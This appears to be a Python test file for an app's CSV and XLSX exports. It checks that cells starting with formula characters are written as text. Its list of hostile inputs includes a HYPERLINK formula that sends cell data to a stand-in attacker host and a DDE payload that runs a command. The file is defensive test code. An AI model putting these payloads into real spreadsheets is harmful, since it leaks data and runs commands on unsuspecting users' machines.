"""Trainer and assessor downloads (CSV, XLSX) are opened in spreadsheets: a learner who names
themselves "=HYPERLINK(...)" must not get a formula run on the trainer's computer. Text cells
that start with a formula character are written as text ("'" first, as OWASP advises); numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from adaptive.exports import table_download

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _download(fmt: str, names: list[object]):
    return table_download(
        name="t", header=["name", "score"], rows=[[n, -1.5] for n in names], fmt=fmt,
        sheet_title="T", preamble=["=preamble()"],
    )  # fmt: skip


def test_csv_cells_that_start_a_formula_are_written_as_text():
    body = _download("csv", HOSTILE).content.decode()
    rows = list(csv.reader(io.StringIO(body)))[1:]
    for (cell, score), hostile in zip(rows, HOSTILE, strict=True):
        assert cell == "'" + hostile
        assert score == "-1.5"


def test_xlsx_cells_that_start_a_formula_are_text_not_formulas():
    book = load_workbook(io.BytesIO(_download("xlsx", HOSTILE).content))
    sheet = book.active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [sheet.cell(row=r, column=1).value for r in range(3, 3 + len(HOSTILE))]
    # (XLSX stores a carriage return as a line feed.)
    assert names == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert sheet.cell(row=3, column=2).value == -1.5


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ordinary_names_and_numbers_are_unchanged(fmt):
    response = _download(fmt, ["Asha Devi", "O'Brien", 12])
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]
        assert [r[0] for r in rows] == ["Asha Devi", "O'Brien", "12"]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert [sheet.cell(row=r, column=1).value for r in (3, 4, 5)] == [
            "Asha Devi",
            "O'Brien",
            12,
        ]
